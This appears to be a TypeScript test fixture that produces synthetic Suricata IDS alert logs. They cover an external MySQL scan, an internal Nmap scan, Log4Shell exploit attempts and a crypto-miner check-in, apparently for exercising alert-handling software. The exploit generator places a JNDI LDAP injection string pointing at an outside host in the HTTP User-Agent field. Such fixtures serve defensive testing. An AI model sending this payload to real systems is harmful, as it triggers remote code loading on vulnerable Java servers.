import { type Moments, spaced } from './moments.ts';

interface Alert {
  readonly minutesAgo: number;
  readonly from: readonly [ip: string, port: number];
  readonly to: readonly [ip: string, port: number];
  readonly rule: readonly [sid: number, revision: number, signature: string];
  readonly category: string;
  /** 1 is the gravest. */
  readonly severity: number;
  readonly more?: object;
}

const attacker = '203.0.113.66';
const scanner = '10.9.0.5';
const miner = '10.4.2.17';

/** Lines of `eve.json`: the attacker's scan, our own scanner's, an exploit, and what follows from it. One line is a mere flow. */
export const suricataLines = (moments: Moments): readonly string[] => [
  ...spaced(6, 38).map((minutesAgo, index) => scanOfAttacker(moments, minutesAgo, index)),
  flow(moments, 37),
  ...spaced(3, 36).map((minutesAgo, index) => scanOfOurOwn(moments, minutesAgo, index)),
  ...spaced(2, 33).map((minutesAgo, index) => exploit(moments, minutesAgo, index)),
  ...spaced(4, 21).map((minutesAgo, index) => mining(moments, minutesAgo, index)),
];

const scanOfAttacker = (moments: Moments, minutesAgo: number, index: number): string =>
  alert(moments, {
    minutesAgo,
    from: [attacker, 51_120 + index],
    to: ['10.4.0.20', 3306],
    rule: [2010937, 3, 'ET SCAN Suspicious inbound to mySQL port 3306'],
    category: 'Potentially Bad Traffic',
    severity: 2,
  });

const scanOfOurOwn = (moments: Moments, minutesAgo: number, index: number): string =>
  alert(moments, {
    minutesAgo,
    from: [scanner, 40_010 + index],
    to: [`10.4.0.${30 + index}`, 8080],
    rule: [2009358, 6, 'ET SCAN Nmap Scripting Engine User-Agent Detected'],
    category: 'Web Application Attack',
    severity: 2,
    more: {
      app_proto: 'http',
      http: {
        hostname: `10.4.0.${30 + index}`,
        url: '/',
        http_user_agent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
      },
    },
  });

const exploit = (moments: Moments, minutesAgo: number, index: number): string =>
  alert(moments, {
    minutesAgo,
    from: [attacker, 52_004 + index],
    to: ['10.4.0.31', 8080],
    rule: [2034647, 2, 'ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)'],
    category: 'Attempted Administrator Privilege Gain',
    severity: 1,
    more: {
      app_proto: 'http',
      direction: 'to_server',
      http: {
        hostname: 'shop.example',
        url: '/api/search',
        http_method: 'GET',
        http_user_agent: `$\{jndi:ldap://198.51.100.23:1389/a${index}}`,
        status: 200,
      },
    },
  });

const mining = (moments: Moments, minutesAgo: number, index: number): string =>
  alert(moments, {
    minutesAgo,
    from: [miner, 44_310 + index],
    to: ['198.51.100.77', 3333],
    rule: [2024792, 4, 'ET POLICY Cryptocurrency Miner Checkin'],
    category: 'Crypto Currency Mining Activity Detected',
    severity: 1,
  });

function alert(moments: Moments, { minutesAgo, from, to, rule, category, severity, more }: Alert): string {
  const [signature_id, rev, signature] = rule;
  return JSON.stringify({
    ...packet(moments, minutesAgo, { event_type: 'alert', from, to }),
    alert: { action: 'allowed', gid: 1, signature_id, rev, signature, category, severity },
    ...more,
  });
}

const flow = (moments: Moments, minutesAgo: number): string =>
  JSON.stringify({
    ...packet(moments, minutesAgo, { event_type: 'flow', from: ['10.4.2.17', 40_022], to: ['10.4.0.2', 53] }),
    app_proto: 'dns',
    flow: { pkts_toserver: 1, pkts_toclient: 1, bytes_toserver: 82, bytes_toclient: 154, state: 'established' },
  });

const packet = (
  moments: Moments,
  minutesAgo: number,
  { event_type, from, to }: { readonly event_type: string } & Pick<Alert, 'from' | 'to'>,
): object => ({
  timestamp: moments.micros(minutesAgo),
  flow_id: 1_500_000_000_000_000 + Math.round(minutesAgo * 1e9) + from[1],
  in_iface: 'eth1',
  event_type,
  src_ip: from[0],
  src_port: from[1],
  dest_ip: to[0],
  dest_port: to[1],
  proto: 'TCP',
});
